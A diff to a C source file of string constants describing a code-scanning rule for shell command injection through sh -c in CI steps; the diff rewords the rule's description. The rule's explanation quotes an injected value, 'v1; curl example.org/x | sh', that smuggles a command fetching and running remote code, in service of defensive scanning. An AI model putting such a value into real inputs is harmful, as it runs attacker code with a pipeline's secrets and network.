@@ -134,9 +134,9 @@ const char *const links_608[] = { "https://docs.dagger.io/0.21/getting-started/t
 
 const char checks_609[] =
 	"Every command that hands a script to a shell, as in sh -c, is looked at. It passes "
-	"unless a text that the caller gives is part of the script: straight is certain, through "
-	"a helper or a variable likely. A function whose parameter is the whole script is a low "
-	"finding.";
+	"unless a text that the caller gives is part of the script, straight or, less certain, "
+	"through a helper or a variable. Whether the text is checked before is not seen. A function "
+	"whose parameter is the whole script is a low finding.";
 const char why_609[] =
 	"A text such as v1; curl example.org/x | sh is taken for commands. They run with the "
 	"secrets and the network of the step, and in CI the text often comes from the title or "
